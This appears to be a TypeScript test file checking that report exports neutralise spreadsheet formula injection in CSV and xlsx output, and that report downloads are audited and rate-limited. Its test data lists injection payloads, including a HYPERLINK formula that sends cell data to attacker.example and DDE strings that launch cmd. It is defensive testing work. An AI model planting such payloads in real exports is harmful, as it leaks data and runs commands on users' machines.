import ExcelJS from 'exceljs';
import type { DatabaseConfig } from '../src/config';
import type { Orm } from '../src/db/orm';
import { csvField, neutraliseFormula, toCsv, toXlsx, type ReportTable } from '../src/modules/analytics/analytics.export';
import { REPORT_DOWNLOAD_COSTS } from '../src/modules/analytics/analytics.routes';
import { ReportKind } from '../src/modules/analytics/analytics.types';
import { AuditEntry } from '../src/modules/audit/audit-entry.entity';
import { createWorld } from './support/limits-world';
import { startLoggedApp, TEST_JWT_SECRET, WARN, type LoggedApp } from './support/logged-app';
import { databaseKinds, dropScratchDatabase, migratedOrm } from './support/databases';

/** Names a district administrator can write (units, regions, rounds, cadres, household heads) that a spreadsheet would run. */
const FORMULA_NAMES = [
  '=HYPERLINK("http://attacker.example/?"&A1,"查看")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u3000=1+1',
  '＝HYPERLINK("http://attacker.example")',
  '＋1',
  '－1',
  '＠SUM(1)',
];

const PLAIN_NAMES = ['平山区民政局', '李秀兰', '210502001002', '东兴社区 (一组)', 'a=b', '1+1'];

describe('report exports', () => {
  it('CSV: every cell a spreadsheet would read as a formula is text, whatever name it comes from', () => {
    for (const name of FORMULA_NAMES) {
      expect(neutraliseFormula(name)).toBe(`'${name}`);
      const field = csvField(name);
      // Quoted only where CSV needs it; the apostrophe stays first inside the quotes.
      expect(field.replace(/^"/, '').startsWith(`'`)).toBe(true);
    }
    for (const name of PLAIN_NAMES) expect(csvField(name)).toBe(/[",]/.test(name) ? `"${name.replace(/"/g, '""')}"` : name);
  });

  it('CSV: numbers stay numbers (a negative amount is a number, not a formula), and empty stays empty', () => {
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvField(0)).toBe('0');
    expect(csvField(null)).toBe('');
    const table: ReportTable = { title: 't', headers: ['名称', '金额（元）'], rows: FORMULA_NAMES.map((name, index) => [name, -index - 0.5]) };
    const lines = toCsv(table)
      .toString('utf8')
      .replace(/^\uFEFF/, '')
      .split('\r\n');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://attacker.example/?""&A1,""查看"")",-0.5`);
    expect(lines[3]).toBe(`"'-2+3+cmd|"" /C calc""!A0",-2.5`);
  });

  it('xlsx: a formula-shaped name is a plain string cell, never a formula, hyperlink or rich text; amounts are numbers', async () => {
    const table: ReportTable = {
      title: '帮扶工作分类统计',
      headers: ['分组', '编码', '帮扶资金（元）'],
      rows: [...FORMULA_NAMES, 'http://attacker.example/'].map((name, index) => [name, String(index + 1), -index - 0.25]),
    };
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx(table)) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    table.rows.forEach((row, index) => {
      const [name, code, amount] = [1, 2, 3].map((column) => sheet.getRow(index + 2).getCell(column));
      expect({ value: name!.value, type: name!.type, formula: name!.formula, hyperlink: name!.hyperlink }).toEqual({
        // XML reads a carriage return in text as a line feed; the cell is text either way.
        value: String(row[0]).replace(/\r/g, '\n'),
        type: ExcelJS.ValueType.String,
        formula: undefined,
        hyperlink: undefined,
      });
      expect(code!.type).toBe(ExcelJS.ValueType.String);
      expect({ value: amount!.value, type: amount!.type }).toEqual({ value: row[2], type: ExcelJS.ValueType.Number });
    });
  });
});

describe.each(databaseKinds())('report downloads on %s: audited and charged like the figure sheets', (kind) => {
  let orm: Orm;
  let database: DatabaseConfig;
  let server: LoggedApp;
  let analyst: Record<string, string>;
  let analystAccountId: number;
  /** Two downloads' worth of the query budget, and a little more: the third is refused. */
  const budget = REPORT_DOWNLOAD_COSTS[ReportKind.OVERVIEW] * 2 + 100;

  beforeAll(async () => {
    ({ orm, database } = await migratedOrm(kind, 'exports'));
    const world = await createWorld(orm);
    analyst = { authorization: `Bearer ${(await world.tokens(TEST_JWT_SECRET)).analyst}` };
    server = await startLoggedApp(orm, database, (config) => ({
      ...config,
      rateLimits: { ...config.rateLimits, enabled: true, queriesPerAccount: { points: budget, durationSeconds: 600 } },
    }));
    const answer = await server.graphql<{ me: { id: string } }>('{ me { id } }', {}, analyst.authorization.slice(7));
    analystAccountId = Number(answer.body.data!.me.id);
  });

  afterAll(async () => {
    await server?.close();
    await orm?.close(true);
    if (database) await dropScratchDatabase(database);
  });

  const download = (search: string) => fetch(`${server.url}/exports/report.csv?${search}`, { headers: analyst });
  const downloadsAudited = () => orm.em.fork().find(AuditEntry, { operation: 'downloadReport' }, { orderBy: { id: 'asc' }, populate: ['actor'] });

  it('reads every parameter (a thousand before the slice do not hide it) and refuses one given twice, naming it', async () => {
    const padding = Array.from({ length: 1_000 }, (_, index) => `p${index}=1`).join('&');
    const hidden = await download(`kind=OVERVIEW&${padding}&from=yesterday`);
    expect([hidden.status, ((await hidden.json()) as { error: { field: string } }).error.field]).toEqual([400, 'from']);
    const twice = await download('kind=OVERVIEW&regionId=1&regionId=2');
    expect([twice.status, ((await twice.json()) as { error: { field: string } }).error.field]).toEqual([400, 'regionId']);
    // Refused requests cost nothing and leave no download in the audit trail.
    expect(await downloadsAudited()).toHaveLength(0);
  });

  it('audits each download (who, which report, format, slice) and charges its figure sheet’s cost: the third is refused with 429', async () => {
    const first = await download('kind=OVERVIEW&from=2026-01-01');
    expect(first.status).toBe(200);
    const xlsx = await fetch(`${server.url}/exports/report.xlsx?kind=OVERVIEW`, { headers: analyst });
    expect(xlsx.status).toBe(200);
    const entries = await downloadsAudited();
    expect(
      entries.map((entry) => ({ actor: entry.actor?.id, entityId: entry.entityId, regionPath: entry.regionPath, changes: JSON.parse(entry.changes!) })),
    ).toEqual([
      {
        actor: analystAccountId,
        entityId: 'OVERVIEW',
        regionPath: '210500000000/',
        changes: { format: 'csv', kind: 'OVERVIEW', dimension: null, from: '2026-01-01' },
      },
      { actor: analystAccountId, entityId: 'OVERVIEW', regionPath: '210500000000/', changes: { format: 'xlsx', kind: 'OVERVIEW', dimension: null } },
    ]);

    const third = await download('kind=OVERVIEW');
    expect(third.status).toBe(429);
    expect(Number(third.headers.get('retry-after'))).toBeGreaterThan(0);
    expect(((await third.json()) as { error: { code: string } }).error.code).toBe('TOO_MANY_REQUESTS');
    expect(await downloadsAudited()).toHaveLength(2);
    expect(server.logs).toContainEqual(expect.objectContaining({ level: WARN, budget: 'queriesPerAccount', accountId: analystAccountId }));
    // The same budget as the analyst's queries: a figure sheet over GraphQL is refused now too.
    const sheet = await server.graphql('{ campaignOverview { figures { measure value } } }', {}, analyst.authorization.slice(7));
    expect(sheet.body.errors?.[0]?.extensions?.code).toBe('TOO_MANY_REQUESTS');
  });
});
